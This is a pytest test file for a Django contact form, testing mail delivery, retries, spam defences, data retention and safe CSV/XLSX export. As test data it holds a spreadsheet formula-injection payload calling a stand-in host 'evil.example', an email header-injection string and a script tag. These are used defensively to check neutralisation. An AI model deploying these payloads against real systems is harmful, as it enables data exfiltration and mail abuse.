"""The contact form against a real SMTP server on 127.0.0.1 (aiosmtpd, the `smtp` fixture of
petr/conftest.py), spam defences included."""

import csv
import datetime
import io
import socket

import openpyxl
import pytest
import time_machine
from django.core.management import call_command
from django.utils import timezone

from petr.contact.forms import ContactForm
from petr.contact.models import ContactSettings, ContactSubmission

pytestmark = pytest.mark.django_db


@pytest.fixture
def recipient(seeded):
    contact = ContactSettings.load()
    contact.recipient = "accueil@petr.example"
    contact.save()


def token(seconds_ago=30):
    return ContactForm.signer().sign(str(timezone.now().timestamp() - seconds_ago))


def post(client, **fields):
    data = {
        "name": "Jeanne Martin",
        "email": "jeanne@example.fr",
        "subject": "Mobilité",
        "message": "Bonjour, comment rejoindre le covoiturage ?",
        "website": "",
        "token": token(),
        **fields,
    }
    return client.post("/contact/", data)


def test_form_offers_the_missions_as_subjects(client, seeded):
    html = client.get("/contact/").content.decode()
    for subject in ("Mobilité", "LEADER", "Autre demande"):
        assert f'<option value="{subject}">' in html
    assert "conservées 365 jours" in html and "/donnees-personnelles/" in html


def test_consent_notice_links_the_page_chosen_in_the_settings(client, seeded):
    from wagtail.models import Page

    page = Page.objects.get(slug="donnees-personnelles").specific
    page.slug = "vos-donnees"
    page.save_revision().publish()
    assert 'href="/vos-donnees/"' in client.get("/contact/").content.decode()
    ContactSettings.objects.update(privacy_page=None)
    assert "Pour en savoir plus" not in client.get("/contact/").content.decode()


def test_message_is_stored_then_sent_to_staff(client, recipient, smtp):
    response = post(client)
    assert response.status_code == 302 and response["Location"].endswith("?envoye=1#confirmation")
    submission = ContactSubmission.objects.get()
    assert submission.notified and submission.subject == "Mobilité"
    assert len(smtp.messages) == 1
    mail = smtp.messages[0]
    assert "To: accueil@petr.example" in mail and "Reply-To: jeanne@example.fr" in mail
    assert (
        "Merci, votre message a bien été reçu" in client.get(response["Location"]).content.decode()
    )


def test_a_refusing_smtp_server_loses_nothing(client, recipient, smtp, admin_client):
    smtp.refuse = True
    response = post(client)
    assert response.status_code == 302  # the sender's message is safe: it is stored
    submission = ContactSubmission.objects.get()
    assert not submission.notified
    assert (
        submission.notification_error
        == "Refus du serveur de courriel : 550 5.7.1 Message refusé par le serveur"
    )
    listing = admin_client.get("/admin/messages/").content.decode()
    assert "Jeanne Martin" in listing
    export = admin_client.get("/admin/messages/?export=csv")
    export = b"".join(export.streaming_content).decode("utf-8-sig")
    assert "Bonjour, comment rejoindre le covoiturage ?" in export


def test_exports_never_turn_a_message_into_a_formula(client, recipient, admin_client):
    attack = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
    post(client, name=attack, message="@SUM(1+1)")
    post(client, email="autre@example.fr", name="-2+3", message="Bonjour = merci")
    post(client, email="trois@example.fr", name="Jo;=1+1", message="a,=2+2")
    export = admin_client.get("/admin/messages/?export=csv")
    text = b"".join(export.streaming_content).decode()
    # A French spreadsheet also splits on « ; »: no cell may then start a formula.
    for separator in ";,":
        for row in csv.reader(io.StringIO(text), delimiter=separator):
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["Nom"] for r in rows} == {"'" + attack, "'-2+3", "Jo;'=1+1"}
    assert {r["Message"] for r in rows} == {"'@SUM(1+1)", "Bonjour = merci", "a,'=2+2"}
    workbook = openpyxl.load_workbook(
        io.BytesIO(admin_client.get("/admin/messages/?export=xlsx").getvalue())
    )
    cells = [cell.value for row in workbook.active.iter_rows() for cell in row]
    assert attack in cells and workbook.active["B2"].data_type == "s"


def test_a_silent_mail_server_delays_nobody_and_the_message_is_sent_when_it_recovers(
    client, recipient, smtp, settings, queue
):
    working_port = settings.EMAIL_PORT
    with socket.socket() as silent:  # accepts connections, never says a word
        silent.bind(("127.0.0.1", 0))
        silent.listen(8)
        silent.setblocking(False)
        settings.EMAIL_PORT, settings.EMAIL_TIMEOUT = silent.getsockname()[1], 0.3

        assert post(client).status_code == 302
        with pytest.raises(BlockingIOError):
            silent.accept()  # the visitor's request did not even connect to the mail server
        submission = ContactSubmission.objects.get()
        assert submission.notification_status == "En attente"

        queue()  # the worker's first attempt times out
        submission.refresh_from_db()
        assert not submission.notified and submission.notification_attempts == 1
        assert submission.notification_error.startswith("Envoi impossible")
        assert submission.notification_status.startswith("Échec n° 1, nouvel essai à")
        silent.accept()[0].close()

    settings.EMAIL_PORT = working_port  # the server recovers
    queue()
    assert smtp.messages == []  # not before the retry is due
    with time_machine.travel(submission.next_attempt_at + datetime.timedelta(seconds=1)):
        queue()
    submission.refresh_from_db()
    assert submission.notified and submission.notification_status == "Envoyé"
    assert submission.notification_attempts == 2 and len(smtp.messages) == 1


def test_after_the_last_retry_staff_see_the_error(client, recipient, smtp, settings, queue):
    smtp.refuse = True
    post(client)
    submission = ContactSubmission.objects.get()
    for hours in range(0, 18, 3):  # 1 attempt, then 4 retries, each due within 3 hours
        with time_machine.travel(datetime.timedelta(hours=hours), tick=False):
            queue()
    submission.refresh_from_db()
    assert submission.notification_attempts == 5 and submission.next_attempt_at is None
    assert submission.notification_status.startswith("Échec : Refus du serveur de courriel : 550")


def test_the_honeypot_silently_drops_robots(client, recipient, smtp):
    assert post(client, website="http://spam.example").status_code == 302
    assert ContactSubmission.objects.count() == 0 and smtp.messages == []


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        (lambda: {"token": token(0)}, "trop vite"),
        (lambda: {"token": token(3 * 86400)}, "expiré"),
        (lambda: {"token": "forgé"}, "expiré"),
        (lambda: {"email": "pas-une-adresse"}, "adresse de courriel valide"),
        (lambda: {"message": "x" * 10_000}, "au plus 5000 caractères"),
        (lambda: {"subject": "<script>"}, "choix valide"),
    ],
    ids=["too-fast", "expired", "forged", "bad-email", "too-long", "unknown-subject"],
)
def test_refused_messages_are_explained_and_keep_what_was_typed(client, recipient, fields, message):
    response = post(client, name="Jeanne <b>Martin</b>", **fields())
    html = response.content.decode()
    assert response.status_code == 400
    assert message in html and "Le message n'a pas été envoyé" in html
    assert 'value="Jeanne &lt;b&gt;Martin&lt;/b&gt;"' in html
    assert ContactSubmission.objects.count() == 0


def test_a_message_posted_twice_is_stored_once(client, recipient, smtp):
    post(client)
    post(client)
    assert ContactSubmission.objects.count() == 1 and len(smtp.messages) == 1


def test_a_form_serves_once(client, recipient, smtp):
    used = token()
    assert post(client, token=used).status_code == 302
    assert post(client, token=used).status_code == 302  # a double click: stored once
    response = post(client, token=used, message="Un autre message, même formulaire")
    assert response.status_code == 400 and "déjà servi" in response.content.decode()
    assert ContactSubmission.objects.count() == 1 and len(smtp.messages) == 1


def test_too_many_messages_from_one_address_are_refused(client, recipient, smtp):
    for i in range(5):
        assert post(client, message=f"Message {i}").status_code == 302
    response = post(client, message="Un de trop")
    assert response.status_code == 400 and "Trop de messages" in response.content.decode()
    assert ContactSubmission.objects.count() == 5


def test_old_messages_are_purged_after_the_retention_period(seeded):
    old = ContactSubmission.objects.create(
        name="Ancien", email="a@example.fr", subject="LEADER", message="…"
    )
    ContactSubmission.objects.filter(pk=old.pk).update(
        created_at=timezone.now() - datetime.timedelta(days=400)
    )
    ContactSubmission.objects.create(
        name="Récent", email="r@example.fr", subject="LEADER", message="…"
    )
    out = io.StringIO()
    call_command("purge_contact_submissions", stdout=out)
    assert list(ContactSubmission.objects.values_list("name", flat=True)) == ["Récent"]
    assert "1 message(s) de plus de 365 jours" in out.getvalue()


def test_a_line_break_in_a_name_never_stops_the_notification(client, recipient, mailoutbox):
    post(client, name="Jeanne\r\nBcc: tous@example.org\nMartin")
    (submission,) = ContactSubmission.objects.all()
    assert submission.notified and submission.name.startswith("Jeanne")
    assert mailoutbox[0].subject == "[Site] Mobilité — Jeanne Bcc: tous@example.org Martin"
    assert mailoutbox[0].bcc == []
